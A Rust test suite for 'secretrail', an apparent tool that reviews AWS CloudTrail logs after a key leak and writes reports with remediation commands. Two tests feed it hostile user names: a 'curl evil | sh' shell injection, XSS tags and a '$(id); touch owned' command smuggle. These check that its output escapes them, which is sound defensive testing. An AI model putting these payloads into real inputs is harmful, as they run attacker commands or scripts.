//! `secretrail review`.

use std::fs;
use std::path::Path;

use assert_cmd::Command;
use serde_json::{Value, json};
use tempfile::TempDir;

const NOW: &str = "2026-03-28T15:00:00Z";

fn fixtures() -> String {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/trail").to_string_lossy().into_owned()
}

/// Runs a review in a case of the fixtures; exit code, output, errors.
fn review(case: &str, arguments: &[&str]) -> (i32, String, String) {
    let mut command = Command::cargo_bin("secretrail").expect("the binary");
    let folder = Path::new(&fixtures()).join(case);
    command.current_dir(folder).args(["review", ".", "--now", NOW]).args(arguments);
    let output = command.output().expect("it runs");
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (output.status.code().unwrap_or(-1), text(&output.stdout), text(&output.stderr))
}

#[test]
fn a_key_leads_to_what_was_done_and_to_the_fallback() {
    let (code, told, errors) = review("fallback-root", &["--key", "AKIAIOSFODNN7EXAMPLE"]);
    assert_eq!(code, 0, "{errors}");
    for words in [
        "# Incident review: key `AKIAIOSFODNN7EXAMPLE`",
        "user/terraform-deployer",
        "the same host continued with these credentials",
        "`/paperclip-app/anthropic/api-key`",
        "aws ec2 stop-instances --instance-ids",
        "## Limits of this review",
    ] {
        assert!(told.contains(words), "{words} in\n{told}");
    }
}

#[test]
fn what_is_not_found_is_said_with_what_is_near() {
    let (code, told, errors) = review("fallback-root", &["--key", "AKIAIOSFODNN7EXAMPLF"]);
    assert_eq!((code, told.as_str()), (2, ""));
    assert!(errors.contains("user/terraform-deployer` that ends in `MPLE`"), "{errors}");
}

#[test]
fn a_broken_log_is_a_gap() {
    let folder = TempDir::new().expect("a folder");
    let log = fs::read_dir(Path::new(&fixtures()).join("fallback-root")).expect("the case").next();
    fs::copy(log.expect("a log").expect("a log").path(), folder.path().join("a.json")).expect("copied");
    fs::write(folder.path().join("b.json"), "{\"Records\":[{\"eventName\":").expect("written");
    let mut command = Command::cargo_bin("secretrail").expect("the binary");
    command.current_dir(folder.path()).args(["review", ".", "--now", NOW, "--principal", "root"]);
    let output = command.output().expect("it runs");
    assert_eq!(output.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&output.stdout).contains("**Not read:** `b.json`"));
}

fn stix_ids(text: &str) -> Vec<String> {
    let bundle: Value = serde_json::from_str(text).expect("JSON");
    assert_eq!(bundle["type"], "bundle");
    let objects = bundle["objects"].as_array().expect("objects");
    objects.iter().map(|object| object["id"].as_str().expect("an id").to_owned()).collect()
}

#[test]
fn every_format_tells_the_same() {
    let folder = TempDir::new().expect("a folder");
    let at = |name: &str| folder.path().join(name).to_string_lossy().into_owned();
    let also = |format: &str| format!("{format}={}", at(format));
    let (html, json, stix) = (also("html"), also("json"), also("stix"));
    let arguments = ["--principal", "root", "--also", &html, "--also", &json, "--also", &stix];
    let (code, markdown, errors) = review("fallback-root", &arguments);
    assert_eq!(code, 0, "{errors}");
    let read = |name: &str| fs::read_to_string(folder.path().join(name)).expect("it was written");
    let whole: Value = serde_json::from_str(&read("json")).expect("JSON");
    assert_eq!((&whole["version"], &whole["start"]["value"]), (&json!(1), &json!("root")));
    let event = whole["timeline"][0]["at"]["event"].as_str().expect("an event");
    let hash = whole["evidence"][0]["sha256"].as_str().expect("a hash");
    for text in [&markdown, &read("html")] {
        assert!(text.contains(event) && text.contains(hash) && text.contains("Limits of this review"));
        assert!(text.contains("aws iam update-access-key --user-name terraform-deployer"), "{text}");
    }
    assert!(read("html").contains("default-src 'none'"));
    let ids = stix_ids(&read("stix"));
    for kind in [
        "identity--",
        "indicator--",
        "observed-data--",
        "ipv4-addr--",
        "user-account--",
        "relationship--",
        "report--",
    ] {
        assert!(ids.iter().any(|id| id.starts_with(kind)), "{kind}");
    }
    let bundle: Value = serde_json::from_str(&read("stix")).expect("JSON");
    let objects = bundle["objects"].as_array().expect("objects");
    let report = objects.iter().find(|object| object["type"] == "report").expect("a report");
    assert_eq!(report["object_refs"].as_array().map(Vec::len), Some(ids.len() - 1), "all but itself");
    let indicator = objects.iter().find(|object| object["pattern"] == "[ipv4-addr:value = '203.0.113.24']");
    assert_eq!(indicator.expect("an indicator")["valid_from"], "2026-03-28T14:13:02.000Z");
}

#[test]
fn the_same_logs_give_the_same_bytes_in_any_order() {
    let (cases, folder) = (fixtures(), TempDir::new().expect("a folder"));
    let tell = |paths: &[&str], format: &str| {
        let mut command = Command::cargo_bin("secretrail").expect("the binary");
        command
            .current_dir(folder.path())
            .arg("review")
            .args(paths.iter().map(|path| format!("{cases}/{path}")));
        command.args(["--now", NOW, "--secret", "/paperclip-app/anthropic/api-key", "--format", format]);
        let output = command.output().expect("it runs");
        assert_eq!(output.status.code(), Some(0));
        output.stdout
    };
    for format in ["markdown", "html", "json", "stix"] {
        let first = tell(&["agent-declared", "fallback-root", "unknown", "bursts"], format);
        assert_eq!(
            first,
            tell(&["bursts", "unknown", "agent-declared", "fallback-root"], format),
            "{format}"
        );
    }
}

#[test]
fn a_secret_leads_to_all_who_read_it_and_back_to_who_stands_before() {
    let (code, told, errors) = review("agent-declared", &["--secret", "paperclip-app/anthropic/api-key"]);
    assert_eq!(code, 0, "{errors}");
    for words in [
        "**start** `ssm:GetParameter`",
        "agent-deployer",
        "agent-reader",
        "L3 (declared)",
        "AWSReservedSSO_Developer",
    ] {
        assert!(told.contains(words), "{words} in\n{told}");
    }
    // From the last session of the chain back to the first.
    let (_, told, _) = review("chain", &["--principal", "breakglass"]);
    for words in ["### Upstream", "`user/alice`", "it called AssumeRole", "aws cloudtrail start-logging"] {
        assert!(told.contains(words), "{words} in\n{told}");
    }
}

#[test]
fn an_event_leads_to_its_session() {
    let (_, told, _) = review("tampering", &["--principal", "mallory", "--format", "json"]);
    let whole: Value = serde_json::from_str(&told).expect("JSON");
    let event = whole["timeline"][2]["at"]["event"].as_str().expect("an event").to_owned();
    let (code, told, errors) = review("tampering", &["--event", &event]);
    assert_eq!(code, 0, "{errors}");
    assert!(told.contains("**start** ") && told.contains("user/mallory"), "{told}");
    let (code, _, errors) = review("tampering", &["--event", "00000000-0000-0000-0000-000000000000"]);
    assert_eq!(code, 2);
    assert!(errors.contains("no event in these logs has this ID"), "{errors}");
}

#[test]
fn a_time_narrows_and_what_lies_outside_is_said() {
    let window =
        ["--principal", "root", "--since", "2026-03-28T14:16:00Z", "--until", "2026-03-28T14:16:40Z"];
    let (code, told, errors) = review("fallback-root", &window);
    assert_eq!(code, 0, "{errors}");
    assert!(
        !told.contains("`iam:CreateAccessKey`") && told.contains("Only events from 2026-03-28T14:16:00Z"),
        "{told}"
    );
    let (code, _, errors) = review("fallback-root", &["--principal", "root", "--since", "2027-01-01"]);
    assert_eq!(code, 2);
    assert!(errors.contains("outside of --since and --until"), "{errors}");
}

#[test]
fn key_ids_are_hidden_where_they_are_not_wanted() {
    for format in ["markdown", "html", "json", "stix"] {
        let arguments = ["--principal", "root", "--hide-key-ids", "--format", format];
        let (code, told, errors) = review("fallback-root", &arguments);
        assert_eq!(code, 0, "{errors}");
        assert!(
            !told.contains("AKIAI44QH8DHBEXAMPLE") && !told.contains("ASIAFALLBACKAEXAMPLE"),
            "{format}: {told}"
        );
        assert!(format == "stix" || told.contains("part") || told.contains("Part of a name"), "a part is hidden, and that is said");
    }
}

#[test]
fn the_five_answers_stand_beside_what_was_read() {
    let folder = TempDir::new().expect("a folder");
    let list = folder.path().join("SECRETS.md");
    let table = "| Key | Location | Last Rotated | Owner | Revoke | Breaks | Generate | Verify |\n|---|---|---|---|---|---|---|---|\n\
        | ANTHROPIC_API_KEY | SSM /paperclip-app/anthropic/api-key | 2026-03-28 | Paperclip | console.anthropic.com | agents | console.anthropic.com | curl status |\n";
    fs::write(&list, table).expect("written");
    let list = list.to_string_lossy().into_owned();
    let (code, told, errors) = review("fallback-root", &["--principal", "root", "--inventory", &list]);
    assert_eq!(code, 0, "{errors}");
    for words in [
        "`ANTHROPIC_API_KEY`: owner Paperclip, last rotated 2026-03-28",
        "2. What breaks at once? agents",
        "4. How is it stored in its home? **no answer yet**",
        "aws ssm put-parameter --overwrite --type SecureString --name /paperclip-app/anthropic/api-key --value file:///dev/stdin",
        "all are in the inventory",
    ] {
        assert!(told.contains(words), "{words} in\n{told}");
    }
    let (_, told, _) = review("human", &["--principal", "alice", "--inventory", &list]);
    assert!(told.contains("Not in the inventory"), "{told}");
}

#[test]
fn hostile_names_stay_names() {
    let folder = TempDir::new().expect("a folder");
    let user = "<img src=x onerror=alert(1)>|`@octocat`\u{1b}[31m\u{202e}'; curl evil | sh #";
    let event = |at: usize, name: &str, extra: Value| {
        json!({"eventVersion": "1.11", "eventTime": format!("2026-10-10T15:00:{at:02}Z"), "eventID": format!("e-{at}<b>|"),
            "eventSource": "iam.amazonaws.com", "eventName": name, "awsRegion": "us-east-1</style><script>",
            "sourceIPAddress": "198.51.100.7", "userAgent": "x' OR 1 = '1\\ <script>alert(1)</script> | [a](javascript:x)",
            "recipientAccountId": "123456789012", "readOnly": false, "eventType": "AwsApiCall",
            "userIdentity": {"type": "IAMUser", "principalId": "AIDA1", "accountId": "123456789012", "userName": user,
                "arn": format!("arn:aws:iam::123456789012:user/{user}"), "accessKeyId": "AKIAIOSFODNN7EXAMPLE"},
            "requestParameters": extra, "responseElements": {"accessKey": {"accessKeyId": "AKIAI44QH8DHBEXAMPLE", "userName": user}}})
    };
    let events = [
        event(1, "CreateAccessKey", json!({"userName": user})),
        event(2, "AttachUserPolicy", json!({"userName": user, "policyArn": "file:///etc/passwd"})),
        event(3, "PutUserPolicy", json!({"userName": user, "policyName": "-x\n```\n# title"})),
    ];
    fs::write(folder.path().join("log.json"), json!({ "Records": events }).to_string()).expect("written");
    let tell = |format: &str| {
        let mut command = Command::cargo_bin("secretrail").expect("the binary");
        command.current_dir(folder.path()).args([
            "review",
            "log.json",
            "--now",
            NOW,
            "--key",
            "AKIAIOSFODNN7EXAMPLE",
        ]);
        let output = command.args(["--format", format]).output().expect("it runs");
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).expect("UTF-8")
    };
    let (markdown, html) = (tell("markdown"), tell("html"));
    for text in [&markdown, &html] {
        assert!(!text.contains(['\u{1b}', '\u{202e}']) && !text.contains("file:///etc/passwd --"), "{text}");
    }
    assert!(
        !html.contains("<img") && !html.contains("<script") && !html.contains("</style><script"),
        "{html}"
    );
    // Outside of code nothing is markup; code starts and ends on one line.
    let mut in_fence = false;
    for line in markdown.lines() {
        if line.trim_start().starts_with("```") {
            in_fence = !in_fence;
            continue;
        }
        let plain: String = line.split('`').step_by(2).collect();
        assert!(
            in_fence || !plain.contains("<img") && !plain.contains("<script") && !plain.contains("](java"),
            "{line}"
        );
        assert!(in_fence || !plain.contains("@octocat"), "{line}");
        assert_ne!(line.trim(), "# title");
        if in_fence {
            assert_one_command(line);
        }
    }
    assert!(!in_fence);
    let stix = tell("stix");
    assert!(stix_ids(&stix).len() > 3);
}

/// A shell reads the line as one command of `aws`: all that could end it stands between quotes.
fn assert_one_command(line: &str) {
    let (mut quote, mut plain) = (None, String::new());
    for letter in line.trim().chars() {
        match quote {
            Some(open) if open == letter => quote = None,
            Some(_) => {}
            None if ['\'', '"'].contains(&letter) => quote = Some(letter),
            None => plain.push(letter),
        }
    }
    assert!(quote.is_none(), "{line}");
    assert!(
        line.trim().starts_with("aws ") && !plain.contains(['|', ';', '#', '<', '>', '$', '`', '&']),
        "{line}"
    );
}

#[test]
fn what_cannot_be_asked_is_refused() {
    for (arguments, words) in [
        (vec!["review", "."], "required"),
        (vec!["review", "--key", "x"], "required"),
        (vec!["review", ".", "--key", "x", "--event", "y"], "cannot be used with"),
        (vec!["review", "s3://bucket", "--key", "x"], "is a bucket"),
        (vec!["review", ".", "--key", "x", "-o", "./log.md"], "lies in what is read"),
        (vec!["review", "none", "--key", "x"], "no CloudTrail event"),
        (vec!["review", ".", "--key", " "], "nothing to start from"),
    ] {
        let folder = TempDir::new().expect("a folder");
        let mut command = Command::cargo_bin("secretrail").expect("the binary");
        let output = command.current_dir(folder.path()).args(&arguments).output().expect("it runs");
        let errors = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{arguments:?} {errors}");
        assert!(errors.contains(words), "{words} in {errors}");
    }
}

#[test]
fn standard_input_is_read_once() {
    let log = fs::read_dir(Path::new(&fixtures()).join("tampering")).expect("the case").next();
    let text = fs::read(log.expect("a log").expect("a log").path()).expect("read");
    let mut command = Command::cargo_bin("secretrail").expect("the binary");
    let output =
        command.args(["review", "-", "--now", NOW, "--principal", "mallory"]).write_stdin(text).output();
    let output = output.expect("it runs");
    assert_eq!(output.status.code(), Some(0));
    let told = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(told.contains("`(standard input)`") && told.contains("still exists"), "{told}");
}

/// The commands of a review: what stands between fences.
fn fenced(markdown: &str) -> Vec<String> {
    let (mut all, mut inside): (Vec<String>, Option<Vec<&str>>) = (Vec::new(), None);
    for line in markdown.lines() {
        match (line.trim_start().starts_with("```"), &mut inside) {
            (true, None) => inside = Some(Vec::new()),
            (true, Some(lines)) => {
                all.push(lines.join("\n"));
                inside = None;
            }
            (false, Some(lines)) => lines.push(line.trim_start()),
            (false, None) => {}
        }
    }
    all
}

#[cfg(unix)]
#[test]
fn commands_are_read_by_a_shell_as_they_are_meant() {
    let folder = TempDir::new().expect("a folder");
    let user = "x|`id`$(id)\"'; touch owned #";
    let event = json!({"eventVersion": "1.11", "eventTime": "2026-03-28T14:00:00Z", "eventID": "e-1",
        "eventSource": "iam.amazonaws.com", "eventName": "AttachUserPolicy", "awsRegion": "us-east-1",
        "sourceIPAddress": "198.51.100.7", "userAgent": "x", "recipientAccountId": "123456789012", "readOnly": false,
        "eventType": "AwsApiCall", "userIdentity": {"type": "IAMUser", "principalId": "AIDA1", "accountId": "123456789012",
            "userName": user, "arn": "arn:aws:iam::123456789012:user/x", "accessKeyId": "AKIAIOSFODNN7EXAMPLE"},
        "requestParameters": {"userName": user, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}});
    fs::write(folder.path().join("log.json"), json!({ "Records": [event] }).to_string()).expect("written");
    let told = assert_cmd::Command::cargo_bin("secretrail")
        .expect("the binary")
        .current_dir(folder.path())
        .args(["review", "log.json", "--now", NOW, "--key", "AKIAIOSFODNN7EXAMPLE"])
        .output()
        .expect("it runs");
    let markdown = String::from_utf8(told.stdout).expect("UTF-8");
    let commands = fenced(&markdown);
    assert!(commands.len() > 1, "{markdown}");
    for line in commands {
        let script = format!("aws() {{ printf '%s\\n' \"$@\"; }}\n{line}\n");
        let mut sh = assert_cmd::Command::new("sh");
        let run = sh.current_dir(folder.path()).args(["-c", &script]).output().expect("a shell");
        let words = String::from_utf8_lossy(&run.stdout).into_owned();
        assert!(run.status.success() && words.starts_with("iam\n"), "{line}");
        assert!(words.lines().any(|word| word == user), "{line}\n{words}");
    }
    assert!(!folder.path().join("owned").exists());
}

/// The review of root's fallback, with a list and its runbook.
fn with_runbook(list: &str, book: &str) -> String {
    let folder = TempDir::new().expect("a folder");
    let at = |name: &str, text: &str| {
        let path = folder.path().join(name);
        fs::write(&path, text).expect("written");
        path.to_string_lossy().into_owned()
    };
    let (list, book) = (at("SECRETS.md", list), at("RUNBOOK.md", book));
    let arguments = ["--principal", "root", "--inventory", &list, "--runbook", &book];
    let (code, told, errors) = review("fallback-root", &arguments);
    assert_eq!(code, 0, "{errors}");
    told
}

#[test]
fn a_command_in_an_answer_can_be_copied() {
    let list = "| Key | Location | Push |\n|---|---|---|\n| ANTHROPIC_API_KEY | SSM /paperclip-app/anthropic/api-key | see the runbook |\n";
    let push = "printf %s NEW | aws ssm put-parameter --name /a/b --value file:///dev/stdin";
    let book = format!(
        "## ANTHROPIC_API_KEY\n\n- **How to push**: `{push}`\n- **How to verify**: `curl https://e.example | head`\n"
    );
    let told = with_runbook(list, &book);
    assert!(told.contains("`curl https://e.example | head`"), "{told}");
    assert!(told.split('`').skip(1).step_by(2).all(|part| !part.contains("&#")), "{told}");
}

#[test]
fn an_answer_of_a_runbook_is_copied_as_it_stands() {
    let list = "| Key | Location | Verify |\n|---|---|---|\n| ANTHROPIC_API_KEY | SSM /paperclip-app/anthropic/api-key | curl https://e.example/<x> |\n";
    let push = "aws ssm put-parameter --name /a/b --value file:///dev/stdin";
    let book = format!(
        "## ANTHROPIC_API_KEY\n\n- **How to push**: `{push}` by <b>hand</b>\n- **What breaks**: run `{push}` first\n"
    );
    let told = with_runbook(list, &book);
    for words in [
        format!("`` `{push}` by <b>hand</b> ``"),
        format!(" run `{push}` first"),
        "`curl https://e.example/<x>`".to_owned(),
    ] {
        assert!(told.contains(&words), "{words} in\n{told}");
    }
}

#[test]
fn what_came_of_a_start_outside_of_the_time_is_told() {
    // The key's own calls are over; root, to which its host fell back, acts on.
    let times = ["--key", "AKIAIOSFODNN7EXAMPLE", "--since", "2026-03-28T14:13:02Z"];
    let (code, told, errors) = review("fallback-root", &times);
    assert_eq!(code, 0, "{errors}");
    assert!(
        told.contains("**As:** `root`") && told.contains("1 session of the same start is outside"),
        "{told}"
    );
    let (code, _, errors) =
        review("fallback-root", &["--key", "AKIAIOSFODNN7EXAMPLE", "--since", "2027-01-01T00:00:00Z"]);
    assert_eq!(code, 2);
    assert!(errors.contains("its one session lies outside"), "{errors}");
}

/// A log of one key that takes many roles with long names, and of what each session makes.
fn large(sessions: usize) -> String {
    let base = |at: usize, source: &str, name: &str, identity: Value| {
        json!({"eventVersion": "1.11", "eventTime": format!("2026-03-28T{:02}:{:02}:{:02}Z", 10 + at / 3600, at / 60 % 60, at % 60),
            "eventID": format!("e-{at}"), "eventSource": format!("{source}.amazonaws.com"), "eventName": name,
            "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.7", "userAgent": "x".repeat(400),
            "recipientAccountId": "123456789012", "readOnly": false, "eventType": "AwsApiCall", "userIdentity": identity})
    };
    let user = json!({"type": "IAMUser", "principalId": "AIDA1", "accountId": "123456789012", "userName": "mallory",
        "arn": "arn:aws:iam::123456789012:user/mallory", "accessKeyId": "AKIAIOSFODNN7EXAMPLE"});
    let mut events = Vec::new();
    for at in 0..sessions {
        let (role, key) = (format!("role-{at}-{}", "r".repeat(40)), format!("ASIAEXAMPLE{at:09}"));
        let mut asked = base(at * 4, "sts", "AssumeRole", user.clone());
        asked["requestParameters"] =
            json!({"roleArn": format!("arn:aws:iam::123456789012:role/{role}"), "roleSessionName": "x"});
        asked["responseElements"] = json!({"credentials": {"accessKeyId": key}});
        let identity = json!({"type": "AssumedRole", "principalId": format!("AROA{at}:x"), "accountId": "123456789012",
            "arn": format!("arn:aws:sts::123456789012:assumed-role/{role}/x"), "accessKeyId": key,
            "sessionContext": {"sessionIssuer": {"type": "Role", "arn": format!("arn:aws:iam::123456789012:role/{role}")}}});
        let mut made = base(at * 4 + 1, "iam", "CreateUser", identity);
        made["requestParameters"] = json!({"userName": format!("user-{at}-{}", "u".repeat(40))});
        events.extend([asked, made]);
    }
    json!({ "Records": events }).to_string()
}

#[test]
fn a_large_incident_fits_a_comment_and_says_what_it_leaves_out() {
    let folder = TempDir::new().expect("a folder");
    fs::write(folder.path().join("log.json"), large(400)).expect("written");
    let tell = |format: &str| {
        let mut command = Command::cargo_bin("secretrail").expect("the binary");
        command.current_dir(folder.path());
        command.args([
            "review",
            "log.json",
            "--now",
            NOW,
            "--key",
            "AKIAIOSFODNN7EXAMPLE",
            "--format",
            format,
        ]);
        String::from_utf8(command.output().expect("it runs").stdout).expect("UTF-8")
    };
    let markdown = tell("markdown");
    assert!(markdown.chars().count() <= 65_536, "{}", markdown.chars().count());
    for words in [
        "Shortened to the 65,536 characters",
        "more are in `--format html`",
        "## Evidence",
        "update-access-key",
    ] {
        assert!(markdown.contains(words), "{words}");
    }
    assert_eq!(markdown.matches("```").count() % 2, 0, "no command is cut");
    let whole: Value = serde_json::from_str(&tell("json")).expect("JSON");
    assert!(whole["actions"].as_array().expect("actions").len() > 800);
}
